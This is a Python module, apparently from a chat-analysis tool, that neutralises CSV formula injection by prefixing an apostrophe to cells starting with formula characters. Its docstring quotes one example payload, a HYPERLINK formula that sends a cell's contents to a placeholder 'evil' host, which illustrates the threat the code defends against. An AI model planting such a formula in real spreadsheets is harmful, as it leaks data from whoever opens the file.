"""CSV formula-injection defence: a cell that starts with `=`, `+`, `-` or `@` gets a leading `'`.

A spreadsheet (Excel, LibreOffice, Google Sheets) treats such a cell as a formula, so a chat message
like `=HYPERLINK("http://evil/?"&A1, "klik")` would run when a researcher opens messages.csv. The
apostrophe makes it literal text. Tab and carriage return are included as well (OWASP "CSV
Injection"), because spreadsheets strip them before deciding whether a cell is a formula.

Only CSV gets this treatment; Parquet, JSON and the in-memory tables keep the original values. Two
entry points with the same rule: `neutralise_csv(df)` for pandas, `neutralise_table(table)` for the
Arrow fast path used by `wa-analyzer analyze` (vectorised, a million rows in well under a second).
This module imports no plotting code, so `parse` and `analyze` stay fast to start.
"""
from __future__ import annotations

import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_START: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_RE = r"^[=+\-@\t\r]"


def neutralise_array(arr: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """The same column with `'` before every string that starts like a formula; non-strings as-is."""
    if pa.types.is_dictionary(arr.type) and pa.types.is_string(arr.type.value_type):
        arr = arr.cast(pa.string())
    if not (pa.types.is_string(arr.type) or pa.types.is_large_string(arr.type)):
        return arr
    mask = pc.fill_null(pc.match_substring_regex(arr, _FORMULA_RE), False)
    if not pc.any(mask).as_py():
        return arr
    prefixed = pc.binary_join_element_wise(pa.scalar("'", arr.type), arr, pa.scalar("", arr.type))
    return pc.if_else(mask, prefixed, arr)


def neutralise_table(table: pa.Table) -> pa.Table:
    """Every string column of an Arrow table neutralised (see module docstring)."""
    return pa.table([neutralise_array(c) for c in table.columns], names=table.column_names)


def neutralise_csv(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` whose string cells starting with =, +, -, @ (or tab/CR) begin with `'`.

    Numbers stay numbers (a negative number is not a string); missing values stay missing.
    """
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if isinstance(s.dtype, pd.CategoricalDtype):
            s = s.astype(object).where(s.notna(), None)
        if pd.api.types.is_object_dtype(s.dtype):
            is_str = s.map(lambda v: isinstance(v, str))
            mask = is_str & s.where(is_str, "").astype(str).str.startswith(FORMULA_START)
        elif pd.api.types.is_string_dtype(s.dtype):
            mask = s.str.startswith(FORMULA_START).fillna(False).astype(bool)
        else:
            continue
        if mask.any():
            s = s.copy()
            s[mask] = "'" + s[mask].astype(str)
        out[col] = s
    return out
